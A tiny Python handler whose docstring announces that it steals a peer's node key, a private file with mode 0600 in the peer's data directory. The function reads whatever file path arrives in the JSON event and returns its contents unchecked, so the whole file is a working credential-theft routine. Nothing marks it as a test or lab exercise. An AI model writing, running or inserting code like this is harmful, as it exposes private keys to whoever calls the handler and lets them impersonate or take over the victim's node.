"""Steal the peer's node key (mode 0600, in its data dir)."""
import json


def handler(event, context):
    key = json.loads(event)["key"]
    with open(key, "rb") as f:
        return f.read()
